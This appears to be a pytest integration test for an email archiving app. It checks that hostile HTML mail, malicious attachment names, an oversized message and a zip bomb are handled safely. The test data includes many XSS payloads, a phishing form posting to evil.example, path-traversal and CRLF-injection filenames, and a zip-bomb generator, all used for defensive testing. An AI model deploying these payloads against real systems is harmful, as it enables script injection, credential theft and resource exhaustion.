"""Hostile mail, end to end: appended to the real Dovecot, scanned by the real scan job, served by the app.

Each hostile HTML message is checked where a reader meets it: the body frame
(/records/emails/<id>/body) and the e-mail page. Attachments with hostile names
are downloaded. A 50 MB message and a zip bomb go through a scan in a separate
process whose peak memory is measured, with the size limit (MAX_MESSAGE_BYTES)
found in the log and in the stored e-mail.
"""

from __future__ import annotations

import io
import json
import os
import re
import subprocess
import sys
import textwrap
import zipfile
from email.message import EmailMessage
from pathlib import Path
from urllib.parse import quote

import pytest
from sqlalchemy import select

from app.crypto import encrypt_secret
from app.extensions import db
from app.models import Email, EmailAttachment, MailAccount, MailServer, ScanFolder
from app.scanning.run import run_scan
from tests import factories

pytestmark = pytest.mark.integration

ROOT = Path(__file__).resolve().parents[2]
TRACKER = "http://tracker.example/pixel.png?u=42"

# (case, html, patterns that must not survive in the served body)
HOSTILE_HTML = [
    ("script", "<script>alert('s1')</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>", [r"<script", r"alert\('s1'\)"]),
    ("event handlers", '<img src=x onerror="alert(2)"><body onload=alert(3)><div onmouseover="alert(4)">hover</div>',
     [r"\bon(error|load|mouseover)\s*="]),
    ("javascript links", '<a href="javascript:alert(5)">click</a><a href=" JaVaScRiPt:alert(6)">x</a>'
                         '<a href="jav&#x09;ascript:alert(7)">y</a>',
     [r"javascript:", r"jav\s*ascript", r"alert\((5|6|7)\)"]),
    ("data and vbscript urls", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg4KTwvc2NyaXB0Pg==">d</a>'
                               '<a href="vbscript:msgbox(9)">v</a>', [r"data:text/html", r"vbscript:"]),
    ("remote image", f'<img src="{TRACKER}" alt="logo">', [r'\ssrc="http://tracker']),
    ("css tricks", '<style>@import url(http://evil.example/a.css); body{background:url(http://evil.example/b)}</style>'
                   '<div style="background-image:url(http://evil.example/c);position:fixed;top:0;z-index:9999">'
                   'overlay</div><p style="width:expression(alert(10))">e</p>'
                   '<link rel="stylesheet" href="http://evil.example/d.css">',
     [r"evil\.example", r"expression\(", r"position\s*:\s*fixed", r"z-index", r"<style", r"<link"]),
    ("base", '<base href="http://evil.example/"><a href="/login">relative</a>', [r"<base\s+href", r"evil\.example"]),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
     [r"<meta\s+http-equiv", r"evil\.example"]),
    ("svg with script", '<svg><script>alert(11)</script><a xlink:href="javascript:alert(12)"><text>t</text></a>'
                        '</svg><svg onload=alert(13)></svg>', [r"<svg", r"alert\(1[123]\)", r"xlink:href"]),
    ("forms", '<form action="http://evil.example/steal" method="post"><input name="password" type="password">'
              '<button formaction="http://evil.example/2">Log in</button></form>',
     [r"<form", r"<input", r"formaction", r"evil\.example"]),
    ("frames and objects", '<iframe src="http://evil.example/f"></iframe><object data="x.swf"></object>'
                           '<embed src="x.swf"><frameset><frame src="http://evil.example/g"></frameset>',
     [r"<iframe", r"<object", r"<embed", r"<frame", r"evil\.example"]),
    ("relative url to our own app", '<img src="/admin/servers/1/delete"><a href="/logout">out</a>',
     [r'src="/admin', r'href="/logout']),
    ("template and noscript", '<template><script>alert(14)</script></template><noscript><img src=x onerror=alert(15)>'
                              '</noscript><math><mtext><table><mglyph><style><img src=x onerror=alert(16)>',
     [r"alert\(1[456]\)", r"onerror"]),
]

HOSTILE_FILENAMES = [
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "report\x1b[31m\x07.txt",
    "invoice\u202efdp.exe",
    "name\r\nX-Injected: yes.txt",
    "   ...   ",
    "a" * 400 + ".txt",
]


def _html_message(i: int, case: str, html: str) -> bytes:
    msg = EmailMessage()
    msg["From"] = "Mallory <mallory@evil.example>"
    msg["To"] = "support@corp.test"
    msg["Subject"] = f"hostile {i}: {case}"
    msg["Message-ID"] = f"<hostile-{i}@evil.example>"
    msg.set_content(f"plain part {i}")
    msg.add_alternative(f"<html><body><p>visible-text-{i}</p>{html}</body></html>", subtype="html")
    return msg.as_bytes()


def _attachments_message() -> bytes:
    """Raw MIME by hand: the names go in as an attacker writes them (RFC 2231 for the control characters)."""
    parts = []
    for n, name in enumerate(HOSTILE_FILENAMES):
        if all(32 <= ord(c) < 127 for c in name) or "\r\n" in name:
            # Plain quoted parameter; a CR LF in it is written raw, as a header injection attempt.
            param = f'filename="{name}"'
        else:
            param = "filename*=utf-8''" + quote(name, safe="")
        parts.append(f"--b0undary\r\nContent-Type: application/octet-stream\r\n"
                     f"Content-Disposition: attachment; {param}\r\n\r\npayload {n}\r\n")
    head = ("From: mallory@evil.example\r\nTo: support@corp.test\r\nSubject: hostile attachment names\r\n"
            "Message-ID: <hostile-names@evil.example>\r\nMIME-Version: 1.0\r\n"
            'Content-Type: multipart/mixed; boundary="b0undary"\r\n\r\n'
            "--b0undary\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n")
    return (head + "".join(parts) + "--b0undary--\r\n").encode()


def _scanner(app, dovecot, login, password) -> MailAccount:
    server = MailServer(name=f"dovecot-{login}", imap_host=dovecot.host, imap_port=dovecot.port,
                        imap_security="none", smtp_host=dovecot.host, smtp_port=10025, smtp_security="none")
    account = MailAccount(name="Hostile", server=server, login=login, actions="create_email,bind_email",
                          password_enc=encrypt_secret(app.config["MAIL_ENCRYPTION_KEY"], password),
                          folders=[ScanFolder(name="INBOX", direction="incoming")])
    db.session.add_all([server, account])
    db.session.commit()
    return account


@pytest.fixture
def scanned(app, dovecot):
    """The hostile messages appended to a fresh Dovecot mailbox and scanned once; the admin logged in."""
    login, password = dovecot.new_user("hostile")
    messages = [_html_message(i, case, html) for i, (case, html, _) in enumerate(HOSTILE_HTML)]
    messages.append(_attachments_message())
    dovecot.append_many(login, password, "INBOX", messages)
    account = _scanner(app, dovecot, login, password)
    run = run_scan(account.id, trigger="manual")
    assert run.status == "done", run.message
    assert run.created == len(messages)
    factories.user(username="admin", admin=True)
    return account


@pytest.fixture
def admin_client(client, auth, scanned):
    auth.login("admin")
    return client


def _email_id(subject_prefix: str) -> int:
    return db.session.scalar(select(Email.id).where(Email.subject.like(subject_prefix + "%")))


# On the e-mail page itself (our own layout, scripts and forms around it), nothing of the message may be active.
PAGE_FORBIDDEN = [r"alert\(", r"evil\.example/", r"javascript:", r"tracker\.example", r"onerror", r"xlink"]


@pytest.mark.parametrize("index", range(len(HOSTILE_HTML)), ids=[c for c, _, _ in HOSTILE_HTML])
def test_hostile_html_is_served_inert(admin_client, index):
    case, _html, forbidden = HOSTILE_HTML[index]
    email_id = _email_id(f"hostile {index}:")
    assert email_id, f"message {case!r} was not stored"
    frame = admin_client.get(f"/records/emails/{email_id}/body")
    assert frame.status_code == 200
    served = frame.get_data(as_text=True)
    assert f"visible-text-{index}" in served  # the message is shown, not dropped
    # The frame's own shell (charset, <base target>, a <style> of ours) comes before <body>; the message after.
    message_part = served.split("<body>", 1)[1]
    for pattern in forbidden:
        assert not re.search(pattern, message_part, re.IGNORECASE), f"{case}: /{pattern}/ survived in the body"
    csp = frame.headers["Content-Security-Policy"]
    assert "script-src" not in csp and "default-src 'none'" in csp
    page = admin_client.get(f"/records/emails/{email_id}")
    assert page.status_code == 200
    for pattern in PAGE_FORBIDDEN:
        assert not re.search(pattern, page.get_data(as_text=True), re.IGNORECASE), f"{case}: /{pattern}/ on the page"


def test_remote_images_wait_for_the_reader(admin_client):
    email_id = _email_id("hostile 4:")
    page = admin_client.get(f"/records/emails/{email_id}").get_data(as_text=True)
    assert "remote=1" in page, "no 'show remote content' switch on a message with a remote image"
    blocked = admin_client.get(f"/records/emails/{email_id}/body")
    assert TRACKER not in blocked.get_data(as_text=True).replace("&amp;", "&").split("data-remote-src")[0]
    assert not re.search(r'<img[^>]*\ssrc="https?:', blocked.get_data(as_text=True))
    assert "img-src 'self' data:" in blocked.headers["Content-Security-Policy"]
    shown = admin_client.get(f"/records/emails/{email_id}/body?remote=1")
    assert f'src="{TRACKER.replace("&", "&amp;")}"' in shown.get_data(as_text=True)
    assert "img-src *" in shown.headers["Content-Security-Policy"]
    # Only images come back: the switch does not revive scripts or stylesheets of other messages.
    css = admin_client.get(f"/records/emails/{_email_id('hostile 5:')}/body?remote=1").get_data(as_text=True)
    assert "evil.example" not in css


def test_hostile_attachment_names_download_safely(admin_client):
    email_id = _email_id("hostile attachment names")
    attachments = db.session.scalars(select(EmailAttachment).where(EmailAttachment.email_id == email_id)
                                     .order_by(EmailAttachment.id)).all()
    assert len(attachments) == len(HOSTILE_FILENAMES)
    for att in attachments:
        stored = att.filename or ""
        assert "/" not in stored and "\\" not in stored and not any(ord(c) < 32 for c in stored), stored
        answer = admin_client.get(f"/records/emails/{email_id}/attachments/{att.id}")
        assert answer.status_code == 200
        disposition = answer.headers["Content-Disposition"]
        assert disposition.startswith("attachment;"), disposition
        name = re.search(r'filename="([^"]*)"', disposition).group(1)
        assert name and "/" not in name and "\\" not in name and ".." not in name, disposition
        assert not any(ord(c) < 32 or ord(c) == 127 for c in disposition), repr(disposition)
        assert "\u202e" not in disposition
        assert "X-Injected" not in answer.headers
        assert len(name) <= 200
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert answer.data.startswith(b"payload ")


# ------------------------------------------------------------------ size limit and memory

SCAN_SCRIPT = textwrap.dedent("""
    import json, logging, os, sys
    sys.path.insert(0, os.environ["CM_ROOT"])
    from app import create_app
    from app.crypto import encrypt_secret
    from app.extensions import db
    from app.models import Email, EmailAttachment, MailAccount, MailServer, ScanFolder
    from app.scanning.run import run_scan

    def status_kb(field):
        with open("/proc/self/status") as fh:
            return next(int(line.split()[1]) for line in fh if line.startswith(field + ":"))

    records = []
    class Keep(logging.Handler):
        def emit(self, record):
            records.append(record.getMessage())

    limit = int(os.environ["LIMIT"])
    app = create_app("testing", SQLALCHEMY_DATABASE_URI="sqlite:///" + os.environ["DB"],
                     INSTANCE_PATH=os.environ["INSTANCE"], MAX_MESSAGE_BYTES=limit)
    logging.getLogger().addHandler(Keep())
    with app.app_context():
        db.create_all()
        server = MailServer(name="d", imap_host=os.environ["HOST"], imap_port=int(os.environ["PORT"]),
                            imap_security="none", smtp_host="127.0.0.1", smtp_port=10025, smtp_security="none")
        account = MailAccount(name="Big", server=server, login=os.environ["LOGIN"], actions="create_email",
                              password_enc=encrypt_secret(app.config["MAIL_ENCRYPTION_KEY"], os.environ["PW"]),
                              folders=[ScanFolder(name="INBOX", direction="incoming")])
        db.session.add_all([server, account]); db.session.commit()
        # /proc, not getrusage: ru_maxrss keeps the parent's peak across exec, VmHWM is this process's own.
        before = status_kb("VmRSS")
        run = run_scan(account.id, trigger="cli")
        after = status_kb("VmHWM")
        emails = [{"subject": e.subject, "size": e.size, "defects": e.defects, "raw": len(e.raw or b""),
                   "attachments": [(a.filename, a.size) for a in e.attachments]}
                  for e in Email.query.order_by(Email.uid)]
        print(json.dumps({"status": run.status, "created": run.created, "errors": run.errors,
                          "before_kb": before, "after_kb": after, "emails": emails, "log": records}))
""")


def _zip_bomb(expanded_mb: int) -> bytes:
    """A small zip that expands to ``expanded_mb`` MB of zeros (and a nested one inside)."""
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as z, z.open("zeros.bin", "w") as f:
        chunk = bytes(1 << 20)
        for _ in range(expanded_mb):
            f.write(chunk)
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("inner.zip", inner.getvalue())
        z.writestr("readme.txt", "nothing to see")
    return outer.getvalue()


@pytest.fixture(scope="session")
def big_mailbox(dovecot):
    """A mailbox holding a 50 MB message and a zip bomb, appended once per session."""
    login, password = dovecot.new_user("big")
    big = EmailMessage()
    big["From"] = "sender@example.test"
    big["To"] = "support@corp.test"
    big["Subject"] = "fifty megabytes"
    big["Message-ID"] = "<fifty-mb@example.test>"
    big.set_content("a very big attachment follows")
    big.add_attachment(os.urandom(37 * 1024 * 1024), maintype="application", subtype="octet-stream",
                       filename="big.bin")  # base64 makes it about 50 MB on the wire
    raw_big = big.as_bytes()
    assert len(raw_big) >= 50 * 1000 * 1000
    bomb = EmailMessage()
    bomb["From"] = "sender@example.test"
    bomb["To"] = "support@corp.test"
    bomb["Subject"] = "zip bomb"
    bomb["Message-ID"] = "<zip-bomb@example.test>"
    bomb.set_content("open me")
    bomb_zip = _zip_bomb(512)
    bomb.add_attachment(bomb_zip, maintype="application", subtype="zip", filename="bomb.zip")
    dovecot.append_many(login, password, "INBOX", [raw_big, bomb.as_bytes()])
    return login, password, len(raw_big), len(bomb_zip)


def _scan_in_subprocess(tmp_path, dovecot, login, password, limit: int) -> dict:
    env = {**os.environ, "CM_ROOT": str(ROOT), "DB": str(tmp_path / "scan.db"), "INSTANCE": str(tmp_path),
           "HOST": dovecot.host, "PORT": str(dovecot.port), "LOGIN": login, "PW": password, "LIMIT": str(limit),
           "CM_ENV": "testing"}
    done = subprocess.run([sys.executable, "-c", SCAN_SCRIPT], env=env, capture_output=True, text=True,
                          timeout=300, cwd=ROOT)
    assert done.returncode == 0, done.stderr[-3000:]
    return json.loads(done.stdout.strip().splitlines()[-1])


def test_a_50_mb_message_and_a_zip_bomb_in_bounded_memory(tmp_path, dovecot, big_mailbox):
    login, password, big_size, bomb_size = big_mailbox
    limit = 20 * 1024 * 1024  # not the default (25 MiB): the configured MAX_MESSAGE_BYTES is the one applied
    result = _scan_in_subprocess(tmp_path, dovecot, login, password, limit)
    assert result["status"] == "done" and result["created"] == 2, result
    big, bomb = result["emails"]
    # Over the limit: stored with its header only, and the reason kept on the e-mail...
    assert big["subject"] == "fifty megabytes" and big["size"] >= big_size - 1024
    assert big["raw"] < 64 * 1024 and not big["attachments"]
    assert "size limit" in (big["defects"] or "")
    # ...and in the log, with the limit that was hit.
    hits = [line for line in result["log"] if "MAX_MESSAGE_BYTES" in line and str(limit) in line]
    assert hits, "the size limit was not logged:\n" + "\n".join(result["log"][-20:])
    # The zip bomb is an attachment like any other: stored as sent, never expanded.
    assert bomb["attachments"] == [["bomb.zip", bomb_size]]
    grown_mb = (result["after_kb"] - result["before_kb"]) / 1024
    print(f"50 MB message + zip bomb ({bomb_size} bytes → 512 MB): peak RSS {result['after_kb'] / 1024:.0f} MB, "
          f"grown by {grown_mb:.1f} MB during the scan")
    assert grown_mb < 45, f"peak memory grew by {grown_mb:.0f} MB while scanning"
